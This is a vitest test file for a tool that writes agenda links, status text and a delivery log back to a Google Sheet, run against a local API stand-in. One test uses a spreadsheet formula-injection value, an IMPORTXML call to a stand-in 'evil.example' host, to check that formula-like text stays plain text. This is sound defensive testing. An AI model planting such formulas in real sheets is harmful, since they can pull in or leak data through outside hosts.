// The write-back to the Google Sheet (real @googleapis/sheets client against the stand-in): only
// script-owned cells change, text stays text, one call per write, nothing when nothing changed.

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { GUIDE_TAB_NAME, guideRows } from '../../sheets-schema/guide.js';
import { columnLetter, LOG_TAB, PROBLEMS_TAB, SUBSCRIBERS_TAB } from '../../sheets-schema/schema.js';
import type { LogEntry, WriteBack } from '../../src/delivery/ports.js';
import { parseLogRows, sheetsStateStore } from '../../src/google/sheets-state.js';
import { BUNDLED_WORKBOOK } from '../../src/package-paths.js';
import { readAndValidate } from '../../src/validate/index.js';
import { googleSheetSource } from '../../src/google/sheets-read.js';
import { addTabs, cellOf, loadXlsx, sheetOf, spreadsheetOf, startStandin, valuesOf, type Standin } from '../standin/index.js';
import { fakeClock, google } from './helpers.js';

let standin: Standin;
beforeAll(async () => {
  standin = await startStandin();
});
afterAll(async () => standin.close());
beforeEach(() => standin.reset());

const ID = 'sheet-write-000001';

async function exampleSheet(opts: { scriptTabs?: boolean; logRows?: number } = {}) {
  const ss = await loadXlsx(standin, BUNDLED_WORKBOOK, { id: ID });
  if (opts.scriptTabs !== false) addTabs(ss, { [LOG_TAB.name]: [LOG_TAB.columns.map((c) => c.header)], [PROBLEMS_TAB.name]: [PROBLEMS_TAB.columns.map((c) => c.header)], [SUBSCRIBERS_TAB.name]: [SUBSCRIBERS_TAB.columns.map((c) => c.header)] });
  if (opts.logRows) sheetOf(standin, ID, LOG_TAB.name).properties.gridProperties.rowCount = opts.logRows;
  return ss;
}

async function read(policy = fakeClock().policy) {
  const g = await google(standin, policy);
  const validated = await readAndValidate(googleSheetSource(ID, g));
  const store = sheetsStateStore({ raw: validated.raw, google: g });
  standin.calls.clear();
  return { ...validated, store };
}

/** Every cell's value of every tab, keyed `Tab!A1`. */
function snapshot(): Map<string, string> {
  const out = new Map<string, string>();
  for (const sheet of spreadsheetOf(standin, ID).sheets) {
    valuesOf(sheet).forEach((row, r) =>
      row.forEach((v, c) => {
        if (v !== null) out.set(`${sheet.properties.title}!${columnLetter(c)}${r + 1}`, JSON.stringify(v));
      }),
    );
    sheet.rows.forEach((row, r) =>
      row?.forEach((cell, c) => {
        if (cell?.note || cell?.format || cell?.dataValidation) out.set(`${sheet.properties.title}!${columnLetter(c)}${r + 1}#meta`, JSON.stringify([cell.note, cell.format, cell.dataValidation]));
      }),
    );
  }
  return out;
}

function changedCells(before: Map<string, string>, after: Map<string, string>): string[] {
  const keys = new Set([...before.keys(), ...after.keys()]);
  return [...keys].filter((k) => before.get(k) !== after.get(k)).sort();
}

const entry = (over: Partial<LogEntry> = {}): LogEntry => ({
  at: '2022-03-17T12:00:05+01:00',
  meetingId: 'CF-2022-03-24',
  action: 'upload',
  document: 'Dagsorden',
  edition: 'offentlig',
  version: '1',
  hash: 'sha256:abc',
  fileId: 'file-1',
  link: 'https://drive.google.com/file/d/file-1/view',
  status: 'udført',
  ...over,
});

describe('SheetsStateStore.writeBack', () => {
  it('writes links, Senest udsendt and log rows in ONE batchUpdate (text never parsed; log rows appended) and touches no other cell', async () => {
    await exampleSheet();
    const { store, model } = await read();
    const meeting = model.meetings.find((m) => m.id === 'CF-2022-03-24')!;
    const before = snapshot();
    const update: WriteBack = {
      meetings: new Map([[meeting.id, { Dagsorden: 'https://drive.google.com/file/d/file-1/view', 'Senest udsendt': '17-03-2022 12:00 dagsorden v1', Bemærkning: 'må aldrig skrives', Titel: 'heller ikke' }]]),
      problems: [],
    };
    await store.writeBack(update, [entry(), entry({ edition: 'medlemmer', fileId: 'file-2' })]);

    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.batchUpdate': 1 });
    const requests = (JSON.parse(standin.calls.list[0]!.body.toString()) as { requests: Record<string, { rows?: { values?: { userEnteredValue?: Record<string, unknown> }[] }[] }>[] }).requests;
    // Every value as stringValue, which Sheets never parses (a title typed as `=…` stays text); the log's rows appended.
    const values = requests.flatMap((r) => Object.values(r).flatMap((x) => (x.rows ?? []).flatMap((row) => row.values ?? []))).flatMap((v) => (v.userEnteredValue ? [v.userEnteredValue] : []));
    expect(values.length).toBeGreaterThan(0);
    expect(values.every((v) => Object.keys(v).join() === 'stringValue')).toBe(true);
    expect(requests.filter((r) => 'appendCells' in r)).toHaveLength(1);
    expect(store.lastWrite).toMatchObject({ calls: 1, path: 'cells' });
    const changed = changedCells(before, snapshot());
    const row = meeting.row;
    expect(changed.filter((k) => k.startsWith('Møder!'))).toEqual([`Møder!J${row}`, `Møder!L${row}`]);
    expect(changed.filter((k) => !k.startsWith('Møder!') && !k.startsWith('Udsendelser!'))).toEqual([]);
    expect(changed.filter((k) => k.startsWith('Udsendelser!')).every((k) => /![A-Z][23]$/.test(k))).toBe(true);
    const moeder = sheetOf(standin, ID, 'Møder');
    expect(cellOf(moeder, `J${row}`)?.value).toBe('https://drive.google.com/file/d/file-1/view');
    expect(cellOf(moeder, `I${row}`)?.value).toBe(meeting.remark);

    // The log reads back as written (a new run's read).
    const again = await read();
    expect(await again.store.readLog()).toEqual([entry(), entry({ edition: 'medlemmer', fileId: 'file-2' })]);
  });

  it('writes nothing (0 calls) when nothing changed, in the same run and in the next', async () => {
    await exampleSheet();
    const { store } = await read();
    const update: WriteBack = { meetings: new Map([['CF-2022-03-24', { Dagsorden: 'https://x/1' }]]), problems: [] };
    await store.writeBack(update);
    expect(standin.calls.count()).toBe(1);
    await store.writeBack(update);
    expect(standin.calls.count()).toBe(1);
    expect(store.lastWrite).toEqual({ calls: 0, cells: 0, path: 'none' });
    const next = await read();
    await next.store.writeBack(update);
    expect(standin.calls.count()).toBe(0);
  });

  it('keeps text that begins with = as text, on both write paths', async () => {
    await exampleSheet();
    const { store } = await read();
    await store.appendLog([entry({ detail: '=IMPORTXML("https://evil.example/","//a")' })]);
    const log = sheetOf(standin, ID, 'Udsendelser');
    const detail = columnLetter(LOG_TAB.columns.findIndex((c) => c.key === 'detail'));
    expect(cellOf(log, `${detail}2`)).toEqual({ value: '=IMPORTXML("https://evil.example/","//a")' });
    await store.writeBack({ meetings: new Map(), problems: [{ tab: 'Punkter', cell: 'D3', message: '=1+1 er ikke en titel' }] });
    expect(cellOf(sheetOf(standin, ID, 'Validering'), 'C2')?.value).toBe('=1+1 er ikke en titel');
    expect(cellOf(sheetOf(standin, ID, 'Validering'), 'C2')?.formula).toBeUndefined();
  });

  it('rewrites the Validering tab with a link to each cell, clears old rows, and leaves it alone when unchanged', async () => {
    await exampleSheet();
    const { store } = await read();
    const punkterGid = sheetOf(standin, ID, 'Punkter').properties.sheetId;
    const problems = [
      { tab: 'Møder', cell: 'G2', message: 'Status "Klar" kendes ikke.' },
      { tab: 'Punkter', cell: 'F14', message: 'Sagsnr. mangler.' },
      { tab: 'Medlemmer', cell: '', message: 'Fanen mangler.' },
    ];
    await store.writeBack({ meetings: new Map(), problems });
    // The tabs' ids are not in a values read: one metadata read, then one batchUpdate.
    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.get': 1, 'sheets.spreadsheets.batchUpdate': 1 });
    const tab = sheetOf(standin, ID, 'Validering');
    expect(valuesOf(tab)).toEqual([
      ['Fane', 'Celle', 'Problem'],
      ['Møder', 'Møder!G2', 'Status "Klar" kendes ikke.'],
      ['Punkter', 'Punkter!F14', 'Sagsnr. mangler.'],
      ['Medlemmer', 'Medlemmer', 'Fanen mangler.'],
    ]);
    expect(cellOf(tab, 'B3')?.textFormatRuns).toEqual([{ startIndex: 0, format: { link: { uri: `#gid=${punkterGid}&range=F14` } } }]);
    expect(cellOf(tab, 'B4')?.textFormatRuns).toBeUndefined();

    standin.calls.clear();
    await store.writeBack({ meetings: new Map(), problems: problems.slice(1, 2) });
    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.batchUpdate': 1 });
    // NOTE: a write replaces the stand-in's spreadsheet object (batches are atomic): look it up again.
    expect(valuesOf(sheetOf(standin, ID, 'Validering'))).toEqual([
      ['Fane', 'Celle', 'Problem'],
      ['Punkter', 'Punkter!F14', 'Sagsnr. mangler.'],
    ]);
    expect(cellOf(sheetOf(standin, ID, 'Validering'), 'B3')?.textFormatRuns).toBeUndefined();

    const next = await read();
    await next.store.writeBack({ meetings: new Map(), problems: problems.slice(1, 2) });
    expect(standin.calls.count()).toBe(0);
  });

  it('creates a missing Udsendelser tab (header, frozen, protected) in the same single write', async () => {
    await exampleSheet({ scriptTabs: false });
    const { store } = await read();
    await store.appendLog([entry()]);
    // The read that found the tab missing learned the tabs' ids, so no metadata read is needed.
    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.batchUpdate': 1 });
    const log = sheetOf(standin, ID, 'Udsendelser');
    expect(valuesOf(log)[0]).toEqual(LOG_TAB.columns.map((c) => c.header));
    expect(log.properties.gridProperties.frozenRowCount).toBe(1);
    expect(log.protectedRanges).toMatchObject([{ warningOnly: true, range: { sheetId: log.properties.sheetId } }]);
    expect(parseLogRows({ tab: 'Udsendelser', rows: valuesOf(log) as never })).toEqual([entry()]);
    // Validering is not created: there was nothing to write to it.
    expect(spreadsheetOf(standin, ID).sheets.some((s) => s.properties.title === 'Validering')).toBe(false);
  });

  it('adds the Vejledning tab to a Sheet made before it existed, with the first cells write that happens anyway, once', async () => {
    await exampleSheet({ scriptTabs: false });
    expect(spreadsheetOf(standin, ID).sheets.some((s) => s.properties.title === GUIDE_TAB_NAME)).toBe(false);
    const { store } = await read();
    await store.appendLog([entry()]);
    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.batchUpdate': 1 });
    const guide = sheetOf(standin, ID, GUIDE_TAB_NAME);
    expect(valuesOf(guide)).toEqual(guideRows());
    expect(guide.protectedRanges).toMatchObject([{ warningOnly: true, range: { sheetId: guide.properties.sheetId } }]);
    // The next run (a fresh read, now with the tab there) does not add it again.
    const next = await read();
    await next.store.appendLog([entry({ at: '2022-03-17T12:05' })]);
    await next.store.writeBack({ meetings: new Map(), problems: [{ tab: 'Møder', cell: 'C2', message: 'x' }] });
    expect(spreadsheetOf(standin, ID).sheets.filter((s) => s.properties.title === GUIDE_TAB_NAME)).toHaveLength(1);
  });

  it('grows the log tab when the rows would fall outside its grid', async () => {
    await exampleSheet({ logRows: 3 });
    const { store } = await read();
    await store.appendLog([entry(), entry({ fileId: 'b' }), entry({ fileId: 'c' }), entry({ fileId: 'd' })]);
    // Appending grows the tab itself: one call.
    expect(standin.calls.byRoute()).toEqual({ 'sheets.spreadsheets.batchUpdate': 1 });
    const log = sheetOf(standin, ID, 'Udsendelser');
    expect(log.properties.gridProperties.rowCount).toBeGreaterThanOrEqual(5);
    expect(cellOf(log, `${columnLetter(LOG_TAB.columns.findIndex((c) => c.key === 'fileId'))}5`)?.value).toBe('d');
  });

  it('retries a failed write (500, then 429 with Retry-After) and counts every attempt', async () => {
    await exampleSheet();
    const clock = fakeClock();
    const { store } = await read(clock.policy);
    standin.faults.push({ match: 'sheets.spreadsheets.batchUpdate', status: 500 }, { match: 'sheets.spreadsheets.batchUpdate', status: 429, retryAfter: 3 });
    await store.appendLog([entry()]);
    expect(standin.calls.count('POST /v4/spreadsheets/sheet-write-000001:batchUpdate')).toBe(3);
    expect(clock.sleeps).toEqual([250, 3000]);
    expect(cellOf(sheetOf(standin, ID, 'Udsendelser'), 'A2')?.value).toBe(entry().at);
    expect(cellOf(sheetOf(standin, ID, 'Udsendelser'), 'A3')?.value ?? '').toBe('');
  });

  it('log rows whose answer was lost after they were appended are not appended again', async () => {
    await exampleSheet();
    const clock = fakeClock();
    const { store } = await read(clock.policy);
    standin.faults.push({ match: 'sheets.spreadsheets.batchUpdate', status: 500, after: true });
    await store.appendLog([entry(), entry({ fileId: 'b' })]);
    const log = sheetOf(standin, ID, 'Udsendelser');
    expect([cellOf(log, 'A2')?.value, cellOf(log, 'A3')?.value, cellOf(log, 'A4')?.value ?? '']).toEqual([entry().at, entry().at, '']);
    expect((await (await read()).store.readLog()).map((e) => e.fileId)).toEqual([entry().fileId, 'b']);
  });

  it('a fresh read of the log sees what another run appended since this one read the Sheet', async () => {
    await exampleSheet();
    const mine = (await read()).store;
    const other = (await read()).store;
    await other.appendLog([entry({ fileId: 'other' })]);
    await mine.appendLog([entry({ fileId: 'mine' })]);
    expect((await mine.readLog()).map((e) => e.fileId)).toEqual(['mine']);
    expect((await mine.readLog({ fresh: true })).map((e) => e.fileId)).toEqual(['other', 'mine']);
  });
});

describe('parseLogRows', () => {
  it('reads entries by header (any column order), skips empty rows, and gives text', () => {
    const header = ['Status', 'Tidspunkt', 'Møde-id', 'Handling', 'Version', 'Egen kolonne'];
    expect(parseLogRows({ tab: 'Udsendelser', rows: [header, ['udført', '2022-03-17T12:00', 'CF-1', 'send', 2, 'x'], []] })).toEqual([
      { status: 'udført', at: '2022-03-17T12:00', meetingId: 'CF-1', action: 'send', version: '2' },
    ]);
    // Fail closed: a row that is not a log entry stops all sending instead of being skipped (it may
    // be the record of an e-mail that went).
    for (const bad of [['ukendt', '2022-03-17T12:00', 'CF-1', 'send'], ['udført', '2022-03-17T12:00', 'CF-1', 'ukendt'], ['udført', null, 'CF-1', 'send']]) {
      expect(() => parseLogRows({ tab: 'Udsendelser', rows: [header, ['udført', '2022-03-17T12:00', 'CF-1', 'send'], bad] })).toThrow(/Udsendelser kan ikke læses helt: række 3 .*Intet sendes, før den er rettet/);
    }
    expect(parseLogRows(undefined)).toEqual([]);
    // A lease has no meeting.
    expect(parseLogRows({ tab: 'Udsendelser', rows: [['Tidspunkt', 'Møde-id', 'Handling', 'Status', 'Detaljer'], ['2022-03-17T12:00', null, 'lease', 'udført', 'run-1']] })).toEqual([
      { at: '2022-03-17T12:00', meetingId: '', action: 'lease', status: 'udført', detail: 'run-1' },
    ]);
  });
});
